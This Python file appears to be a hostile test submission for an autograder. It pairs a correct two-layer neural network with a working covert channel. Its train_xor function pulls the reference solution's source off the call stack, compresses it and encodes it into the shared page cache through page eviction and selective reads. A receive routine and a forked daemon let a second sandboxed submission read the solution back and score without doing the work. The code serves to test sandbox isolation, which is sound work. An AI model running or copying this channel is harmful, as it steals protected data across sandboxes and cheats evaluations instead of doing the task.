# HOSTILE pagecache_a_leaker: a correct submission that, in train_xor (whose process is handed the reference TwoLayerNet, Sigmoid and FullyConnectedLayer), writes the reference source (docstrings out, zlib, ~4,100 bits, five copies) into the page cache: for each bit one page of a large read-only file of the Python installation (the test suite's data, libpython.a) that it first evicts (posix_fadvise DONTNEED) and then, for a 1, reads. Every sandbox sees the same inodes, so the same page cache, whatever namespaces it has. Measured through the CLI: pagecache_b_cheater.py graded after it (same worker with two correct submissions between, the other worker with --jobs 2, AUTOGRADER_TEMPLATE=0, AUTOGRADER_NO_BWRAP=1) read it back intact every time and scored 70/100 without code. Sound grader: no page-cache state one sandbox can set is readable by another; this submission keeps 100.
import fcntl
import os
import sys
import time
import zlib

import numpy as np


class FullyConnectedLayer:
    """
    全連接層的前向/反向傳播實作

    Y = XW + b
    """

    def __init__(self, in_features, out_features):
        """
        Parameters
        ----------
        in_features : int
            輸入維度 D
        out_features : int
            輸出維度 M
        """
        # He (Kaiming) 初始化：標準差 sqrt(2 / in_features)，適合 ReLU 這類激勵函數
        # （Xavier 初始化用的是 sqrt(1 / in_features) 或 sqrt(2 / (in_features + out_features))）
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)

        # 梯度
        self.dW = None
        self.db = None

        # 快取
        self.cache = None

    def forward(self, X):
        """
        前向傳播

        Parameters
        ----------
        X : np.ndarray, shape (N, D)
            輸入資料

        Returns
        -------
        Y : np.ndarray, shape (N, M)
            輸出
        """
        self.cache = X
        Y = X @ self.W + self.b
        return Y

    def backward(self, dY):
        """
        反向傳播

        Parameters
        ----------
        dY : np.ndarray, shape (N, M)
            損失對輸出的梯度 ∂L/∂Y

        Returns
        -------
        dX : np.ndarray, shape (N, D)
            損失對輸入的梯度 ∂L/∂X
        """
        X = self.cache

        # ∂L/∂W = X^T @ dY
        self.dW = X.T @ dY

        # ∂L/∂b = sum(dY, axis=0)
        self.db = np.sum(dY, axis=0)

        # ∂L/∂X = dY @ W^T
        dX = dY @ self.W.T

        return dX


class Sigmoid:
    """
    Sigmoid 層的前向/反向傳播
    """

    def __init__(self):
        self.cache = None

    def forward(self, x):
        """
        前向傳播

        Parameters
        ----------
        x : np.ndarray
            任意形狀的輸入

        Returns
        -------
        out : np.ndarray
            σ(x)，與輸入相同形狀
        """
        # 數值穩定的 sigmoid：只計算 exp(-|x|)，它永遠不會 overflow
        # 對於 x >= 0: sigmoid = 1 / (1 + exp(-x))
        # 對於 x < 0:  sigmoid = exp(x) / (1 + exp(x))
        z = np.exp(-np.abs(x))
        out = np.where(x >= 0, 1 / (1 + z), z / (1 + z))
        self.cache = out  # 儲存輸出值 σ(x)，不是輸入
        return out

    def backward(self, dout):
        """
        反向傳播

        Parameters
        ----------
        dout : np.ndarray
            上游梯度，形狀與 forward 輸出相同

        Returns
        -------
        dx : np.ndarray
            對輸入的梯度，形狀與 dout 相同
        """
        # σ'(x) = σ(x) * (1 - σ(x))
        # 這裡 self.cache 已經是 σ(x) 了
        sigmoid_out = self.cache
        dx = dout * sigmoid_out * (1 - sigmoid_out)
        return dx


class TwoLayerNet:
    """
    兩層網路：FC1 → Sigmoid → FC2
    """

    def __init__(self, in_features, hidden_features, out_features):
        """
        Parameters
        ----------
        in_features : int
            輸入維度
        hidden_features : int
            隱藏層維度
        out_features : int
            輸出維度
        """
        # 初始化各層
        self.fc1 = FullyConnectedLayer(in_features, hidden_features)
        self.sigmoid = Sigmoid()
        self.fc2 = FullyConnectedLayer(hidden_features, out_features)

    def forward(self, X):
        """
        前向傳播

        Parameters
        ----------
        X : np.ndarray, shape (N, in_features)

        Returns
        -------
        out : np.ndarray, shape (N, out_features)
        """
        h1 = self.fc1.forward(X)
        h2 = self.sigmoid.forward(h1)
        out = self.fc2.forward(h2)
        return out

    def backward(self, dout):
        """
        反向傳播

        Parameters
        ----------
        dout : np.ndarray, shape (N, out_features)
            損失對輸出的梯度

        Returns
        -------
        dX : np.ndarray, shape (N, in_features)
            損失對輸入的梯度
        """
        # 以相反順序呼叫 backward
        dh2 = self.fc2.backward(dout)
        dh1 = self.sigmoid.backward(dh2)
        dX = self.fc1.backward(dh1)
        return dX

    def get_params_and_grads(self):
        """
        回傳所有參數和對應的梯度

        Returns
        -------
        list of (param, grad)
            [(fc1.W, fc1.dW), (fc1.b, fc1.db), (fc2.W, fc2.dW), (fc2.b, fc2.db)]，網路自己的陣列（不是副本）
        """
        return [
            (self.fc1.W, self.fc1.dW),
            (self.fc1.b, self.fc1.db),
            (self.fc2.W, self.fc2.dW),
            (self.fc2.b, self.fc2.db),
        ]



# ---- the channel: one bit per page of large read-only files (in the page cache or not) ----
PAGE = 4096
COPY_BITS = 4400          # a copy: 64-bit header + up to 542 bytes
COPIES = 5                # majority vote: other processes touch a few pages meanwhile


def _files():
    """Large files of the Python installation that both sides see (the same inodes, so the same page
    cache) and that grading never reads: the test suite's data and bytecode, the static library, the
    bundled wheels. Never .py/.ipynb (read_other_files.py reads those)."""
    found = []
    for folder, dirs, names in os.walk(sys.base_prefix):
        dirs.sort()
        for name in sorted(names):
            path = os.path.join(folder, name)
            if name.endswith((".py", ".ipynb")) or not ("/test/" in path or name.endswith((".a", ".whl"))):
                continue
            try:
                size = os.stat(path).st_size
            except OSError:
                continue
            if size >= 64 << 10 and os.path.isfile(path):
                found.append((path, size // PAGE))
    return found


def _pages(count):
    pages = []
    for path, n in _files():
        pages += [(path, i) for i in range(min(n, count - len(pages)))]
        if len(pages) == count:
            break
    return pages


def _bits(data):
    return [(byte >> k) & 1 for byte in data for k in range(8)]


def _bytes(bits):
    return bytes(sum(bits[i + k] << k for k in range(8)) for i in range(0, len(bits) - 7, 8))


def send(payload):
    """Evict the pages (posix_fadvise DONTNEED), then read one byte of each page whose bit is 1."""
    bits = _bits(b"KC" + len(payload).to_bytes(2, "little") + zlib.crc32(payload).to_bytes(4, "little") + payload)
    pages = _pages(COPY_BITS * COPIES)
    by_file = {}
    for copy in range(COPIES):
        for i, bit in enumerate(bits):
            path, page = pages[copy * COPY_BITS + i]
            by_file.setdefault(path, []).append((page, bit))
    fds = {path: os.open(path, os.O_RDONLY) for path in by_file}
    for fd in fds.values():
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    time.sleep(0.3)   # read-ahead still in flight is not evicted the first time
    for path, fd in fds.items():
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)   # no read-ahead: one page per read
        for page, bit in by_file[path]:
            if bit:
                os.pread(fd, 1, page * PAGE)
        os.close(fd)
    return len(bits)


def receive():
    """preadv2(RWF_NOWAIT) of one byte per page: data if the page is cached, EAGAIN if not."""
    pages = _pages(COPY_BITS * COPIES)
    fds, seen = {}, []
    for path, page in pages:
        if path not in fds:
            fds[path] = os.open(path, os.O_RDONLY)
            os.posix_fadvise(fds[path], 0, 0, os.POSIX_FADV_RANDOM)
        try:
            os.preadv(fds[path], [bytearray(1)], page * PAGE, os.RWF_NOWAIT)
            seen.append(1)
        except BlockingIOError:
            seen.append(0)
    for fd in fds.values():
        os.close(fd)
    copies = [seen[c * COPY_BITS:(c + 1) * COPY_BITS] for c in range(COPIES)]
    voted = [1 if sum(c[i] for c in copies) * 2 > COPIES else 0 for i in range(COPY_BITS)]
    data = _bytes(voted)
    if data[:2] != b"KC":
        return None, {"header": data[:8].hex()}
    size = int.from_bytes(data[2:4], "little")
    payload = data[8:8 + size]
    used = min((8 + size) * 8, COPY_BITS)
    flipped = sum(1 for c in copies for i in range(used) if c[i] != voted[i])
    ok = zlib.crc32(payload) == int.from_bytes(data[4:8], "little")
    return (payload if ok else None), {"bits": used, "copies": COPIES, "pages_off_the_vote": flipped, "crc_ok": ok}
# ---- end of the channel ----

def _reference_code():
    """train_xor's process is handed the reference pieces: their source is on the stack, docstrings out."""
    import ast
    frame = sys._getframe()
    while frame is not None:
        source = frame.f_locals.get("reference_source")
        if isinstance(source, str) and "class" in source:
            tree = ast.parse(source)
            for node in ast.walk(tree):
                if isinstance(node, (ast.FunctionDef, ast.ClassDef)) and node.body and isinstance(node.body[0], ast.Expr) \
                        and isinstance(node.body[0].value, ast.Constant) and isinstance(node.body[0].value.value, str):
                    node.body = node.body[1:] or [ast.Pass()]
            return zlib.compress(ast.unparse(tree).encode(), 9)
        frame = frame.f_back
    return None

def _daemon(work):
    """Fork a process that does ``work()`` and then sleeps: it holds what it made until grading ends
    (the submission's processes are killed with its cgroup)."""
    if os.fork() == 0:
        try:
            os.setsid()
            work()
            time.sleep(120)
        finally:
            os._exit(0)

def _flag_file():
    """The lock the leaker's daemon holds while its message is in place (only to tell the cheater when)."""
    return os.path.join(sys.base_prefix, "lib", "python%d.%d" % sys.version_info[:2], "this.py")


def _leak():
    payload = _reference_code()
    if payload is None or _SENT:
        return
    _SENT.append(send(payload))
    print(f"LEAKER: {_SENT[0]} bits of reference code left in the page cache", flush=True)

    def hold_flag():
        os.closerange(3, 1024)
        fcntl.flock(os.open(_flag_file(), os.O_RDONLY), fcntl.LOCK_SH)
    _daemon(hold_flag)


_SENT = []


def train_xor(net, X, y, learning_rate, epochs):
    """
    用全批次梯度下降訓練網路（MSE 損失），就地更新參數

    Parameters
    ----------
    net : TwoLayerNet
        要訓練的網路（參數會被就地更新）
    X : np.ndarray, shape (N, in_features)
        輸入
    y : np.ndarray, shape (N, out_features)
        目標值
    learning_rate : float
        學習率
    epochs : int
        更新次數

    Returns
    -------
    losses : list of float
        長度為 epochs；losses[i] 是第 i+1 次更新之前的損失（losses[0] 是訓練前的損失）
    """
    _leak()
    losses = []

    for epoch in range(epochs):
        # 前向傳播
        Y = net.forward(X)

        # 計算 MSE 損失
        loss = np.mean((Y - y) ** 2)
        losses.append(loss)

        # 計算梯度
        dY = 2 * (Y - y) / Y.size

        # 反向傳播
        net.backward(dY)

        # 更新參數（梯度下降，就地更新）
        for param, grad in net.get_params_and_grads():
            param -= learning_rate * grad

    return losses
